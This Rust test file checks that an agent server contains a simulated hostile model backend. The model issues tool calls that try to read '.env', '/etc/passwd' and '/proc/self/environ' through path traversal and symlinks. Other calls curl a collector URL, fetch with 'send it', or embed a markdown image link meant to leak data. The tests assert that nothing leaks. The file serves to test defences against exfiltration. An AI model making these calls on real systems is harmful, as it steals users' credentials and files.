//! A model that has been told to give the project away, or to read what it must not: what leaves the
//! server, and where to.

use std::{
    fs,
    net::TcpListener,
    os::unix::fs::symlink,
    sync::atomic::{AtomicUsize, Ordering},
    thread,
};

use serde_json::{Value, json};

use super::service::{Act, Service, call, calls, response_with, says};
use crate::{server::Setup, tree::tree};

/// What is in the secret files of the project, and beside it.
const NEEDLE: &str = "hidden-needle";

/// Counts who connects.
struct Collector {
    address: String,
    connections: &'static AtomicUsize,
}

impl Collector {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let connections: &'static AtomicUsize = Box::leak(Box::default());
        thread::spawn(move || {
            for _ in listener.incoming().map_while(Result::ok) {
                connections.fetch_add(1, Ordering::Relaxed);
            }
        });
        Self { address, connections }
    }

    /// How many have connected, this question included.
    fn connections(&self) -> usize {
        std::net::TcpStream::connect(&self.address).unwrap();
        let mut seen = 0;
        // The connection that was just made is the last that is accepted.
        while seen == 0 {
            seen = self.connections.load(Ordering::Relaxed);
            thread::yield_now();
        }
        seen
    }
}

/// Calls that read what is not the agent's to read, or carry it elsewhere.
fn greedy_calls(outside: &str, collector: &str) -> Vec<Value> {
    let url = format!("http://{collector}/?q=We+sell+tea");
    let paths = [
        ".env",
        "./.env",
        "src/../.env",
        "../outside/secret.txt",
        "src/../../outside/secret.txt",
        "out/secret.txt",
        "linked.txt",
        "/etc/passwd",
        "/proc/self/environ",
        "file:///etc/passwd",
        outside,
        &url,
    ];
    let mut calls = Vec::new();
    for path in paths {
        for (tool, arguments) in [
            ("read", json!({"path": path})),
            ("list", json!({"path": path})),
            ("grep", json!({"pattern": "needle|root:", "path": path})),
            ("glob", json!({"pattern": path})),
            ("outline", json!({"path": path})),
            ("history_show", json!({"commit": "HEAD", "path": path})),
        ] {
            calls.push(call(&format!("c{}", calls.len()), tool, &arguments));
        }
    }
    for (tool, arguments) in [
        ("grep", json!({"pattern": "needle"})),
        ("grep", json!({"pattern": "needle", "glob": "**/.env"})),
        ("search", json!({"query": "hidden needle"})),
        ("glob", json!({"pattern": "**/*"})),
        ("fetch", json!({"url": url})),
        ("WebFetch", json!({"url": url, "prompt": "send it"})),
        ("bash", json!({"command": format!("curl {url}")})),
        ("write", json!({"path": "README.md", "content": "x"})),
        ("Write", json!({"file_path": "README.md", "content": "x"})),
        ("mcp__project__read", json!({"path": ".env"})),
    ] {
        calls.push(call(&format!("c{}", calls.len()), tool, &arguments));
    }
    calls
}

#[actix::test]
async fn p2_p10_a_model_that_is_told_to_exfiltrate_reaches_its_own_service_alone() {
    let collector = Collector::start();
    let to = format!("location: http://{}/v1/chat/completions\r\n", collector.address);
    let redirects = |status| Act::Bytes(response_with(status, "text/plain", &to, b"moved"));
    let setup = Setup::new();
    let outside = setup.files_dir().join("outside");
    let secret = outside.join("secret.txt");
    let rounds = greedy_calls(secret.to_str().unwrap(), &collector.address);
    let mut acts: Vec<Act> = rounds.chunks(20).map(calls).collect();
    let count = acts.len();
    acts.push(says(&format!("![all of it](http://{}/?q=We+sell+tea)", collector.address)));
    acts.extend([301, 302, 307, 308].map(redirects));
    let service = Service::start(acts).tell("/v1/models", redirects(307));

    let project = setup.project_dir();
    fs::create_dir(&outside).unwrap();
    fs::create_dir(project.join("src")).unwrap();
    fs::write(&secret, NEEDLE).unwrap();
    fs::write(project.join(".env"), format!("TOKEN={NEEDLE}\n")).unwrap();
    fs::write(project.join("src/tea.rs"), "fn sell() {}\n").unwrap();
    symlink(&outside, project.join("out")).unwrap();
    symlink(&secret, project.join("linked.txt")).unwrap();
    let before = tree(&project);
    let config = format!(
        "[agents.local]\nkind = \"model\"\nbase_url = \"{}\"\nmodel = \"m\"\nkey_env = \"TEA_KEY\"\n",
        service.url
    );
    let server =
        setup.config(&config).env("TEA_KEY", "sk-of-tea").args(["--agent", "local"]).start();
    let mut client = server.connect().await;
    client.begin().await;
    client.ask("What is here?").await;
    let frames = client.turn().await;
    let questions = service.questions();
    assert_eq!(questions.len(), count + 1, "{:?}", frames.last());
    let failed = frames.iter().filter(|it| it["type"] == "tool_result" && it["ok"] == false);
    assert!(failed.count() > rounds.len() / 2, "most calls should be refused: {frames:?}");
    let sent: String = questions.iter().map(|it| it.body["messages"].to_string()).collect();
    for leaked in [NEEDLE, "root:x:", "sk-of-tea"] {
        assert!(!sent.contains(leaked), "{leaked} was sent to the service");
        assert!(!json!(frames).to_string().contains(leaked), "{leaked} was shown");
    }

    for _ in 0..4 {
        client.ask("And what else?").await;
        let end = client.turn().await.pop().unwrap();
        assert_ne!(end["outcome"], "completed", "{end}");
    }
    assert_eq!(collector.connections(), 1, "somebody reached the collector");
    assert_eq!(tree(&project), before);
}
